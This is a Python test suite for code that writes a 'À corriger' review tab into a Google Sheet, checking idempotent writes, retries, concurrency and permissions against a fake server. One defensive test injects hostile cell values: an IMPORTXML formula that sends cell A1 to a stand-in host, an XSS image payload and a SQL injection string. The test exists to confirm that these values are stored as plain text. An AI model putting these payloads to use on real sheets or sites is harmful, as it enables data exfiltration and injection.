"""The tab « À corriger » written in the Sheet, over real HTTP: only when the list changes, and nowhere else."""

import time
from concurrent.futures import ThreadPoolExecutor
from copy import deepcopy

import pytest

from sheets.annotating import Annotator, ToMendTab
from sheets.google import GoogleProblem, GoogleSource, Kind, Patience
from sheets.history import History
from sheets.live import LiveCopy
from sheets.opening import GoogleReadings, open_annotator
from sheets.problems import SettingProblem
from sheets.reading import read_workbook
from sheets.settings import Audience, Settings
from sheets.shared_source import SharedSource
from sheets.tabs import PARTNERS, TABS
from sheets.to_mend import HEADER, LINES_AT_MOST, list_to_mend
from sheets.to_mend_place import MARK
from tests.drawing import TODAY, draw_grid
from tests.google import Failure, FakeGoogle
from tests.google.accounts import WRITER
from tests.sheets.google_sheets import QUICK, complete, state

TEAM = Settings(audience=Audience.TEAM)
TAB = "À corriger"
PEOPLE = """
| Identifiant | Nom | Type |
| P1 | Labo | Licorne |
| P2 | Fabrique | Dragon |
| | Sans identifiant | |
"""
HOSTILE = '=IMPORTXML("https://exemple.fr/?"&A1;"//a")'


@pytest.fixture(scope="module")
def server():
    with FakeGoogle() as running:
        yield running


@pytest.fixture
def google(server):
    server.reset()
    server.add_tab("Partenaires", draw_grid(PEOPLE))
    server.add_tab("Notes de Zoé", [["À corriger", "=1+1"], [], ["demain"]])
    server.add_tab("_brouillon", [["x"]])
    return server


def open_tab(google, **options):
    return ToMendTab(google.address, google.writer_key, adapter=google.adapter, **{"patience": QUICK, **options})


def open_source(google):
    patience = Patience(first=0.01, longest=0.02, renew=0.0, renew_incomplete=0.0)
    return GoogleSource(google.address, google.key, adapter=google.adapter, patience=patience)


def listed(google):
    return list_to_mend(read_workbook(TABS, open_source(google).read().book, TODAY))


def write(google):
    return open_tab(google).write(listed(google))


def texts(google, title=TAB):
    """The rows of the tab, ordinary spaces for narrow ones, blank rows left out."""
    sheet = google.sheet(title)
    height, width = sheet.size
    rows = [[sheet.value(row, column) or "" for column in range(width)] for row in range(height)]
    return [
        [text.replace("\u202f", " ") if isinstance(text, str) else text for text in row] for row in rows if any(row)
    ]


def people(google):
    """All that is in the Sheet but our tab."""
    tabs, cells = state(google)
    marks = {sheet.title: deepcopy((sheet.metadata, sheet.filter, sheet.merges)) for sheet in google.book.sheets}
    return (
        [tab for tab in tabs if tab[1] != TAB],
        {place: value for place, value in cells.items() if place[0] != TAB},
        {title: mark for title, mark in marks.items() if title != TAB},
    )


def wait_until(reached):
    limit = time.monotonic() + 20
    while not reached():
        assert time.monotonic() < limit
        time.sleep(0.01)


# What is written


def test_the_tab_is_made_with_a_link_to_each_cell_and_no_other_is_touched(google):
    before = people(google)
    done = write(google)
    assert done.is_new
    assert people(google) == before
    assert google.counts()["write"] == 1
    told, summary, header, *rows = texts(google)
    assert "Tenu par le tableau de bord" in told[0]
    assert summary[0].startswith("Bloquants : 1 · À corriger : 2 · Conseils")
    assert tuple(header) == HEADER
    assert [row[:6] for row in rows[:3]] == [
        ["Bloquant", "Partenaires · ligne 4", "Partenaires", 4, "", "« Sans identifiant »"],
        ["À corriger", "Partenaires · C2", "Partenaires", 2, "Type", "« Licorne »"],
        ["À corriger", "Partenaires · C3", "Partenaires", 3, "Type", "« Dragon »"],
    ]
    sheet = google.sheet(TAB)
    assert sheet.link("B5") == f"https://docs.google.com/spreadsheets/d/{google.id}/edit#gid=0&range=C2"
    assert rows[1][7] == "Labo"
    assert (sheet.frozenRowCount, sheet.protections[0]["warningOnly"]) == (3, True)
    assert sheet.filter["range"]["startRowIndex"] == 2


def test_an_unchanged_list_writes_nothing_whoever_asks(google):
    write(google)
    before = state(google)
    assert write(google).requests == ()
    assert google.counts()["write"] == 1
    assert state(google) == before


def test_another_list_replaces_the_first_and_whatever_was_typed_or_merged_in_the_tab(google):
    write(google)
    sheet = google.sheet(TAB)
    sheet.set("J40", "tapé par quelqu’un")
    sheet.merge("A4:A5")
    google.sheet("Partenaires").set("C2", "Association")
    before = people(google)
    assert not write(google).is_new
    assert people(google) == before
    rows = texts(google)[3:]
    assert [row[1] for row in rows if row[0] == "À corriger"] == ["Partenaires · C3"]
    assert not any("tapé" in str(cell) for row in rows for cell in row)
    assert len([s for s in google.book.sheets if s.title == TAB]) == 1


def test_when_all_is_mended_the_tab_says_thanks(google):
    write(google)
    partners = google.sheet("Partenaires")
    partners.fill(draw_grid("| Identifiant | Nom |\n| P1 | Labo |\n| P2 | Fabrique |"))
    write(google)
    summary, header, *rows = texts(google)[1:]
    assert summary[0].startswith("Rien à corriger. Merci !")
    assert tuple(header) == HEADER
    assert {row[0] for row in rows} == {"Conseil"}
    assert google.sheet(TAB).link("B20") == ""


@pytest.mark.parametrize(
    "value", [HOSTILE, "<img src=x onerror=alert(1)>", "é" * 50_000, "'; DROP TABLE--", "a\u202eb\x07c"]
)
def test_what_people_typed_is_only_ever_a_text(google, value):
    google.sheet("Partenaires").set("C2", value)
    write(google)
    cells = [cell for row in texts(google) for cell in row]
    assert not any(str(cell).startswith(tuple("=+@")) for cell in cells)
    assert max(len(str(cell)) for cell in cells) < 1000
    sheet = google.sheet(TAB)
    assert not {layer.part for layer in sheet.dressing.layers} & {"formula", "note"}
    assert write(google).requests == ()


def test_a_list_of_thousands_fits_in_one_call(google):
    rows = [[f"P{n}", f"Labo {n}", f"Licorne {n}"] for n in range(LINES_AT_MOST + 500)]
    google.sheet("Partenaires").fill([["Identifiant", "Nom", "Type"], *rows])
    write(google)
    assert google.counts()["write"] == 1
    assert len(texts(google)) == LINES_AT_MOST + 3
    google.sheet("Partenaires").fill([["Identifiant", "Nom"], ["P1", "Labo"]])
    write(google)
    assert len(texts(google)) < 30


# Whose tab it is


def test_a_tab_of_that_name_that_people_made_is_left_alone(google):
    google.add_tab("a corriger", [["à revoir ensemble"]])
    before = state(google)
    with pytest.raises(GoogleProblem) as caught:
        write(google)
    assert caught.value.kind is Kind.TAKEN
    assert state(google) == before


def test_our_tab_renamed_is_still_ours_and_deleted_comes_back(google):
    write(google)
    google.rename_tab(TAB, "Relectures")
    google.sheet("Partenaires").set("C2", "Association")
    assert not write(google).is_new
    assert "Licorne" not in str(texts(google, "Relectures"))
    google.delete_tab("Relectures")
    assert write(google).is_new
    assert [known["metadataKey"] for known in google.sheet(TAB).metadata] == [MARK]


def test_the_template_finds_nothing_to_add_to_a_sheet_that_has_our_tab(google):
    complete(google)
    write(google)
    before = state(google)
    assert complete(google).requests == ()
    assert state(google) == before


# What fails


@pytest.mark.parametrize("failure", [Failure.LOST, Failure.RESET, Failure.ERROR_503])
def test_an_answer_that_is_lost_is_not_followed_by_a_second_writing(google, failure):
    google.fail(failure, times=1, kinds=("write",))
    done = write(google)
    assert done.is_new
    assert google.counts()["write"] == (1 if failure is Failure.LOST else 2)
    assert write(google).requests == ()


def test_those_who_write_at_the_same_moment_make_one_tab(google):
    wanted = listed(google)
    google.latency = 0.1
    with ThreadPoolExecutor(4) as together:
        done = list(together.map(lambda _: open_tab(google).write(wanted), range(4)))
    assert sum(one.is_new for one in done) == 1
    assert [sheet.title for sheet in google.book.sheets].count(TAB) == 1
    assert open_tab(google).write(wanted).requests == ()


def test_what_google_refuses_is_said_once_it_is_refused_again(google):
    google.refuse_writes("Invalid requests[0]")
    with pytest.raises(GoogleProblem) as caught:
        write(google)
    assert caught.value.kind is Kind.NOT_WRITTEN
    assert google.counts()["write"] == 2


def test_a_reader_does_not_write_and_nothing_is_half_done(google):
    google.share("reader")
    before = state(google)
    with pytest.raises(GoogleProblem) as caught:
        write(google)
    assert (caught.value.kind, caught.value.account) == (Kind.NOT_EDITOR, WRITER)
    assert state(google) == before


# With the live copy


def open_live(google, source=None, open_it=None):
    annotator = Annotator(open_it or (lambda: open_tab(google)), period=0.02)
    return LiveCopy(TEAM, source or GoogleReadings(open_source(google)), annotator=annotator)


def test_the_tab_never_comes_back_as_data_nor_starts_another_reading(google):
    before = open_source(google).read()
    write(google)
    after = open_source(google).read()
    assert after.fingerprint == before.fingerprint
    assert after.book == before.book
    assert TAB not in {grid.title for grid in after.book.grids}


def test_each_refresh_that_changes_the_list_writes_it_once_and_nothing_loops(google):
    live = open_live(google)
    live.refresh()
    first = live.state.snapshot
    wait_until(lambda: google.counts()["write"] == 1)
    for _ in range(5):
        live.refresh()
        assert live.state.snapshot is first
    google.sheet("Partenaires").set("C2", "Association")
    live.refresh()
    wait_until(lambda: google.counts()["write"] == 2)
    live.refresh()
    live.stop()
    assert google.counts()["write"] == 2
    assert "Licorne" not in str(texts(google))
    assert live.state.unwritten is None
    assert TAB not in {f.tab for f in live.state.snapshot.workbook.findings}


def test_a_writing_that_fails_never_disturbs_reading_and_is_said_until_it_is_mended(google, caplog):
    google.share("reader")
    live = open_live(google)
    live.refresh()
    wait_until(lambda: live.state.unwritten)
    assert live.state.unwritten.kind is Kind.NOT_EDITOR
    assert live.state.problem is None
    google.sheet("Partenaires").set("B2", "Labo neuf")
    live.refresh()
    assert live.state.snapshot[PARTNERS]["nom"].iloc[0] == "Labo neuf"
    google.share("writer")

    def is_mended():
        live.refresh()
        return live.state.unwritten is None and google.book.find(TAB)

    wait_until(is_mended)
    live.stop()
    assert not any(secret in caplog.text for secret in (google.id, WRITER, *google.tokens.given))


def test_a_passing_failure_is_not_told_on_screens_and_a_key_that_is_none_is(google):
    google.fail(Failure.ERROR_500, kinds=("write",))
    live = open_live(google)
    live.refresh()
    wait_until(lambda: google.counts()["write"] >= 2 * QUICK.tries or live.refresh())
    assert live.state.unwritten is None
    live.stop()

    def without_key():
        raise SettingProblem("La clé manque.", "Donnez-la.")

    live = open_live(google, open_it=without_key)
    live.refresh()
    wait_until(lambda: live.state.unwritten)
    assert live.state.snapshot is not None
    live.stop()


def test_only_the_process_that_reads_writes(google, tmp_path):
    url, asked = f"sqlite:///{tmp_path / 'history.db'}", []

    def follow():
        asked.append("written")
        return open_tab(google)

    reading = open_live(google, SharedSource(GoogleReadings(open_source(google)), History(url), "f"))
    following = open_live(google, SharedSource(GoogleReadings(open_source(google)), History(url), "f"), follow)
    for live in (reading, following, reading, following):
        live.refresh()
    wait_until(lambda: google.book.find(TAB))
    assert following.state.snapshot is not None
    assert asked == []
    for live in (reading, following):
        live.stop()


def test_only_the_team_on_google_that_asks_for_it_writes():
    asking = {"source": "google:x", "annotate": True, "audience": Audience.TEAM}
    assert open_annotator(Settings(**asking)) is not None
    for refusal in ({"audience": Audience.PUBLIC}, {"annotate": False}, {"source": "demo"}):
        assert open_annotator(Settings(**{**asking, **refusal})) is None
